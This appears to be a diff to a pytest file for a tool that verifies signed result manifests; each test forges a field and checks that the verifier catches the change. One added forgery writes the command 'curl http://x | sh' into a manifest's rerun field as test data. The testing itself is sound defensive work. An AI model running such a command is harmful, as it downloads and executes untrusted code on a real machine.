@@ -37,9 +37,13 @@ def _hashed(one: dict[str, Any]) -> None:
 
 # What is changed in manifest and result, and signed: by name, with a word of the answer.
 FORGERIES: dict[str, tuple[Change, str]] = {
-    "verdict": (lambda m, r: r.update(verdict="no_signal"), "claims something else"),
-    "claim": (lambda m, r: m.update(claim="They copied us."), "claims something else"),
-    "limits": (lambda m, r: m.update(limits=[]), "claims something else"),
+    "verdict": (lambda m, r: r.update(verdict="no_signal"), "not what the result gives: claim"),
+    "claim": (lambda m, r: m.update(claim="They copied us."), "not what the result gives: claim"),
+    "command line": (
+        lambda m, r: m.update(rerun="curl http://x | sh"),
+        "not what the result gives: command line",
+    ),
+    "limits": (lambda m, r: m.update(limits=[]), "not what the result gives: claim"),
     "statistic": (lambda m, r: r.update(statistic=r["statistic"] + 1e-5), "statistic: recorded"),
     "count": (lambda m, r: r.update(n_scored=r["n_scored"] + 1), "n_scored: recorded"),
     "decoys": (lambda m, r: r["decoys"].update(n_at_least=3), "decoys/n_at_least: recorded 3"),
@@ -116,7 +120,17 @@ def test_a_page_that_says_more_than_the_result_is_found(case: Path, place: Path)
     page = case / "report.html"
     page.write_text(page.read_text().replace("</main>", "<p>They confessed.</p></main>"))
     forged(case, place)
-    assert "not what the result gives" in failed(verified(case, place))["report"]
+    assert "not what the result gives" in failed(verified(case, place))["words"]
+
+
+def test_words_of_other_code_are_not_compared_and_the_line_says_so(case: Path, place: Path) -> None:
+    def changed(manifest: dict[str, Any], result: dict[str, Any]) -> None:
+        manifest["environment"]["code_sha256"] = "0" * 64
+        manifest["claim"] = "They confessed."
+
+    forged(case, place, changed)
+    found = verified(case, place)
+    assert "claim not compared, no commitment, recomputed with other versions" in found["line"]
 
 
 def test_a_config_that_is_not_the_results_is_found(case: Path, place: Path) -> None:
@@ -146,6 +160,17 @@ def test_a_result_that_says_things_twice_is_found(case: Path, place: Path) -> No
     path.write_text(path.read_text().replace("{", '{\n  "verdict": "no_signal",', 1))
     forged(case, place)
     assert "not written as heirmark" in failed(verified(case, place))["schema"]
+
+
+def test_what_is_too_deep_to_be_compared_fails_and_no_more(case: Path, place: Path) -> None:
+    def changed(manifest: dict[str, Any], result: dict[str, Any]) -> None:
+        deep: list[Any] = []
+        for _ in range(300):
+            deep = [deep]
+        result["deep"] = deep
+
+    forged(case, place, changed)
+    assert verified(case, place)["exit_code"] == 1
 
 
 @pytest.mark.parametrize("content", ["[" * 200_000, "NaN\n", "7\n", "", "\x00", '{"kind": NaN}'])
@@ -213,7 +238,7 @@ def test_a_result_that_breaks_the_page_fails_and_no_more(case: Path, place: Path
         )
 
     forged(case, place, changed)
-    assert failed(verified(case, place)).keys() & {"report", "recomputed"}
+    assert failed(verified(case, place)).keys() & {"words", "recomputed"}
 
 
 def test_packed_files_that_would_fill_memory_are_refused(tmp_path: Path) -> None:
